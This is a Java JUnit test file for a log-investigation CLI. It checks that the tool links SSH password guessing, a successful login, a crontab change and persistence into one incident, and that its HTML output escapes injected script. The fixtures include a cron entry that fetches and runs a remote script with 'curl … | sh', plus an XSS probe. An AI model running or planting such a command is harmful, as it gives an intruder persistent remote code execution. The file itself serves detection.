package dev.panoptes.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.panoptes.cli.Session.Run;
import dev.panoptes.cli.shell.ExitCode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Instant;
import java.util.Locale;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

final class InvestigateCommandTest {
    @TempDir
    private Path directory;

    private Session session;
    private final StringBuilder log = new StringBuilder();

    @BeforeEach
    void startASession() {
        session = new Session(directory);
    }

    private void line(int minute, int second, String text) {
        log.append(String.format(Locale.ROOT, "Mar  1 09:%02d:%02d web-1 %s%n", minute, second, text));
    }

    private Run investigate(String... more) throws IOException {
        Files.writeString(directory.resolve("auth.log"), log);
        String[] words = new String[more.length + 6];
        System.arraycopy(
                new String[] {"investigate", "--year", "2026", "--timezone", "UTC", "auth.log"}, 0, words, 0, 6);
        System.arraycopy(more, 0, words, 6, more.length);
        return session.run(words);
    }

    @Test
    void guessingALoginAndANewCronEntryAreOneStoryWithItsLines() throws IOException {
        for (int i = 0; i < 25; i++) {
            line(
                    10 + i / 12,
                    i * 5 % 60,
                    "sshd[" + (4_000 + i) + "]: Failed password for deploy from 203.0.113.9 port 40000 ssh2");
        }
        line(13, 2, "sshd[4100]: Accepted password for deploy from 203.0.113.9 port 41000 ssh2");
        line(14, 10, "sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/crontab -");
        line(14, 11, "crontab[4200]: (root) REPLACE (root)");
        line(15, 1, "CRON[4300]: (root) CMD (curl -fsSL http://203.0.113.9/x | sh # <script>alert(1)</script>)");
        Run run = investigate("--output", "json", "--fail-on", "high");
        assertThat(run.code()).as(run.err()).isEqualTo(ExitCode.FAILED);
        JsonNode told = new JsonMapper().readTree(run.out());
        assertThat(told.path("incidents").size()).isEqualTo(1);
        JsonNode incident = told.path("incidents").get(0);
        assertThat(incident.path("chain").toString())
                .containsSubsequence("T1110.001", "T1078", "T1053.003", "T1059.004");
        assertThat(incident.path("events").toString())
                .contains("\"auth.log:1\"", "\"auth.log:26\"", "\"auth.log:28\"", "\"auth.log:29\"");
        assertThat(incident.path("entities").toString()).contains("web-1", "203.0.113.9", "deploy");
        assertThat(investigate().out()).contains("Login succeeded after passwords were guessed", "auth.log:28");
        assertThat(investigate("--output", "html").out())
                .contains("auth.log:28", "&lt;script&gt;alert")
                .doesNotContain("<script");
    }

    @Test
    void ofAnOrdinaryDayNothingIsFoundAndWhatCouldNotBeSeenIsSaid() throws IOException {
        for (int i = 0; i < 59; i++) {
            line(i, 1, "CRON[" + i + "]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)");
            line(
                    i,
                    3,
                    "sshd[" + i + "]: Accepted publickey for anna from 192.0.2.7 port 3000 ssh2: ED25519 SHA256:abc");
            line(i, 9, "sudo:     anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND=/usr/bin/apt update");
        }
        line(30, 12, "sshd[900]: Failed password for anna from 192.0.2.7 port 3000 ssh2");
        Run run = investigate("--fail-on", "medium");
        assertThat(run.code()).isEqualTo(ExitCode.OK);
        assertThat(run.out()).contains("Threat level BENIGN", "nothing was found", "not seen", "proc");
    }

    @Test
    void whatIsNoLogIsToldAndTheRestIsRead() throws IOException {
        line(1, 1, "sshd[1]: Accepted publickey for anna from 192.0.2.7 port 3000 ssh2: ED25519 SHA256:abc");
        Files.write(directory.resolve("noise.bin"), new byte[] {0, 1, 2, 3, 0, (byte) 0xff, 7});
        Run run = investigate("noise.bin");
        assertThat(run.code()).isEqualTo(ExitCode.INCOMPLETE);
        assertThat(run.err()).contains("noise.bin");
        assertThat(run.out()).contains("Threat level BENIGN");
    }

    @Test
    void aBinaryJournalIsNamedWithWhatReadsIt() throws IOException {
        Path folder = Files.createDirectories(directory.resolve("logs"));
        Files.writeString(folder.resolve("system.journal"), "LPKSHHRH\0\0\0\0\1\0\0\0");
        Files.writeString(folder.resolve("user-1000@5f.journal~"), "LPKSHHRH\0");
        Run run = investigate("logs");
        assertThat(run.code()).isEqualTo(ExitCode.INCOMPLETE);
        assertThat(run.err())
                .contains(
                        "logs/system.journal: a binary journal",
                        "journalctl --file=logs/system.journal -o export",
                        "logs/user-1000@5f.journal~: a binary journal");
    }

    @Test
    void ofACapturedTreeLogsAndPlacesWhereThingsPersistAreRead() throws IOException {
        Path tree = Files.createDirectories(directory.resolve("tree"));
        Files.createDirectories(tree.resolve("var/log/journal/abc"));
        Files.writeString(tree.resolve("var/log/journal/abc/system.journal"), "LPKSHHRH");
        Path crontabs = Files.createDirectories(tree.resolve("etc/cron.d"));
        Files.writeString(Files.createDirectories(tree.resolve("etc")).resolve("hostname"), "db-7\n");
        StringBuilder log = new StringBuilder();
        for (int i = 0; i < 12; i++) {
            log.append(
                    "2026-03-01T10:10:%02d+00:00 db-7 sshd[%d]: Failed password for deploy from 203.0.113.9 port 4 ssh2\n"
                            .formatted(i * 4, 4_000 + i));
        }
        log.append(
                "2026-03-01T10:12:00+00:00 db-7 sshd[4100]: Accepted password for deploy from 203.0.113.9 port 5 ssh2\n");
        Files.writeString(tree.resolve("var/log/auth.log"), log);
        Path entry =
                Files.writeString(crontabs.resolve("sync"), "*/5 * * * * root curl -fsSL http://203.0.113.9/x | sh\n");
        Files.setLastModifiedTime(entry, FileTime.from(Instant.parse("2026-03-01T10:20:00Z")));

        Run run = investigate("--output", "json", "tree");
        JsonNode told = new JsonMapper().readTree(run.out());
        assertThat(told.path("incidents").size()).as(run.out()).isEqualTo(1);
        assertThat(told.path("incidents").get(0).path("events").toString())
                .contains("tree/var/log/auth.log:13", "tree/etc/cron.d/sync:1");
        assertThat(told.path("incidents").get(0).path("timeline").toString()).contains("2026-03-01T10:20:00Z");
        assertThat(told.path("unreadable").toString()).contains("journalctl --directory");
        assertThat(run.code()).isEqualTo(ExitCode.INCOMPLETE);
    }
}
